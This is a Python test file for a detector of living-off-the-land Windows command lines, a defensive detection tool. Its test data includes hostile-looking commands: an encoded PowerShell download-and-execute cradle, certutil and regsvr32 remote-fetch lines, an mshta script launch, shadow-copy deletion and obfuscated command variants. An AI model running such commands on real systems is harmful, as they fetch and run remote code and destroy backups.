"""Pure feature functions: normalisation, obfuscation markers, encoded PowerShell, knowledge matches."""

from __future__ import annotations

import base64

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nightjar.detectors.lotl import features as F
from nightjar.detectors.lotl.attack import Knowledge, flags_of

from .conftest import knowledge


def feats(name: str, cmd: str, exe: str = "", ofn: str = "", know: Knowledge | None = None) -> dict[str, float]:
    values, _ = F.command_features(name, cmd, exe, ofn, know or knowledge())
    return dict(zip(F.NUMERIC, values))


def test_normalise_replaces_user_guid_ip_numbers() -> None:
    text = F.normalise(r"C:\Users\Bob\AppData\Local\Temp\x.exe {12345678-1234-1234-1234-123456789abc} 10.1.2.3 port 4444")
    assert "bob" not in text and "<temp>" in text and "<guid>" in text and "<ip>" in text and "<num>" in text


def test_tokens_split_paths_and_keep_flags() -> None:
    toks = F.tokens(r"certutil.exe -urlcache -f http://x C:\Windows\Temp\a.exe")
    assert "-urlcache" in toks and "certutil.exe" in toks and "<temp>" in toks


def test_encoded_powershell_is_decoded() -> None:
    blob = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://a')".encode("utf-16-le")).decode()
    f = feats("powershell.exe", f"powershell.exe -nop -enc {blob}")
    assert f["encoded"] == 1 and f["decoded_hits"] >= 2 and f["b64_blob"] == 1
    assert feats("powershell.exe", "powershell.exe -Command Get-Service")["encoded"] == 0


@pytest.mark.parametrize(("cmd", "feature"), [
    ("c^m^d /c whoami", "carets"), ("powershell i`e`x foo", "backticks"), ("powershell ('Down'+'load')", "concats"),
    ("cmd /c %comspec:~-7,1%", "env_slices"), (r"copy \\10.0.0.1\share\a.exe .", "unc"), ("ping 10.0.0.1", "ips"),
    ("curl https://example.org/x", "urls"), ("vssadmin delete shadows", "keywords"), ("PoWeRsHeLl -c x", "mixed_case"),
])
def test_obfuscation_and_indicator_markers(cmd: str, feature: str) -> None:
    assert feats("cmd.exe", cmd)[feature] > 0
    assert feats("cmd.exe", "cmd.exe /c dir")[feature] == 0


def test_lolbas_pattern_needs_its_flags() -> None:
    know = knowledge()
    hit = feats("certutil.exe", "certutil -urlcache -split -f http://a/b c.exe", know=know)
    miss = feats("certutil.exe", "certutil -hashfile a.msi SHA256", know=know)
    assert hit["lolbas_match"] == 1 and hit["lolbas_download"] == 1 and hit["lolbin"] == 1
    assert miss["lolbas_match"] == 0 and miss["lolbin"] == 1


def test_unusual_path_and_renamed_binary() -> None:
    know = knowledge()
    assert feats("svchost.exe", "svchost.exe -k x", exe=r"C:\Users\Public\svchost.exe", know=know)["unusual_path"] == 1
    assert feats("svchost.exe", "svchost.exe -k x", exe=r"C:\Windows\System32\svchost.exe", know=know)["unusual_path"] == 0
    assert feats("notepad.exe", "notepad.exe a", ofn="certutil.exe", know=know)["ofn_mismatch"] == 1
    assert feats("certutil.exe", "certutil a", ofn="CertUtil.exe", know=know)["ofn_mismatch"] == 0


def test_flags_of() -> None:
    assert flags_of('regsvr32 /s /n /u /i:http://a scrobj.dll') == ["/s", "/n", "/u", "/i"]


def test_prepare_names_from_paths_grandparent_and_neutral_parent() -> None:
    ev = pd.DataFrame({
        "process.entity_id": ["a", "b", "c"], "process.parent.entity_id": ["w", "a", "b"],
        "process.executable": [r"C:\Windows\System32\cmd.exe", r"C:\Windows\System32\PING.EXE", None],
        "process.parent.name": ["wsmprovhost.exe", "cmd.exe", "PING.EXE"], "process.command_line": ["cmd", "ping x", None],
    })
    prep = F.prepare(ev, neutral_parents=("wsmprovhost.exe",))
    assert prep["name"].tolist() == ["cmd.exe", "ping.exe", ""]
    assert prep["parent"].tolist() == ["", "cmd.exe", "ping.exe"]
    assert prep["grandparent"].tolist() == ["", "", "cmd.exe"]


def test_entropy_bounds() -> None:
    assert F.entropy("") == 0 and F.entropy("aaaa") == 0 and F.entropy("abcd") == pytest.approx(2.0)


def test_techniques_from_pattern_keyword_or_binary() -> None:
    know = knowledge()
    assert know.match("certutil.exe", "certutil -urlcache -f http://a b").techniques == ["T1105"]
    assert know.match("mshta.exe", "mshta.exe vbscript:Close(Execute(\"x\"))").techniques == ["T1218.005"]
    assert know.match("notepad.exe", "notepad.exe a.txt").techniques == []


_PIECES = [*"aAbBfFgGzZ09+/=-.:\\ '\"{}xX\u00e9\u212a\u0660\u0130", "c:\\users\\", "c:\\windows\\temp\\", "://", "1.2.3.4"]
_TEXT = st.lists(st.sampled_from(_PIECES), max_size=120).map("".join)  # ASCII classes, non-ASCII letters and digits


@given(st.lists(_TEXT, max_size=4).map("".join))
@settings(max_examples=300, deadline=None)
def test_byte_class_checks_find_what_the_regexes_find(text: str) -> None:
    low = text.lower()
    assert F._classes(text, F._CASE_CLASS).count(b"lUl") == len(F._CASE.findall(text))
    assert F._has_run(text, F._B64_CLASS, 40) == bool(F._B64.search(text))
    assert F._has_run(low, F._HEX_CLASS, 32) == bool(F._HEX.search(low))
    for pattern, _, possible in F._NORMALISE:
        assert possible(low) or not pattern.search(low)


@given(_TEXT)
@settings(max_examples=200, deadline=None)
def test_long_runs_are_found_by_the_byte_class_checks(text: str) -> None:
    for run in ("aB3+/" * 9, "0123456789abcdef" * 3):
        assert F._has_run(text + run, F._B64_CLASS, 40) == bool(F._B64.search(text + run))
        assert F._has_run((text + run).lower(), F._HEX_CLASS, 32) == bool(F._HEX.search((text + run).lower()))
